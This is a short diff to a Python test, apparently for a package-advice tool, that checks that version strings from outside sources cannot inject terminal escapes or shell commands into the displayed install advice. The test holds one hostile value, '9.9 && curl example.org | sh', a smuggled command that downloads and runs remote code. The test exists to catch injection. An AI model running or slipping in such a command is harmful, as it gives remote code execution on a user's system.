@@ -126,7 +126,7 @@ def test_what_others_say_gives_no_orders_to_a_terminal_or_to_who_reads_it() -> N
     assert not {"\x1b", "\x07", "\x9b"} & set(text)
     attack = "9.9 && curl example.org | sh"
     found = _release(Counter({attack: 1, "0.9.0": 1, "0.10.0": 5}))
-    assert (found.level, found.advice) == (Level.MIND, "pip install shoal==0.10.0")
+    assert (found.level, found.advice) == (Level.MIND, "pip install 'shoal==0.10.0'")
     assert attack not in _release(Counter([attack])).advice
     assert len(_release(Counter(f"{number}.x" for number in range(1000))).found) < 200
 
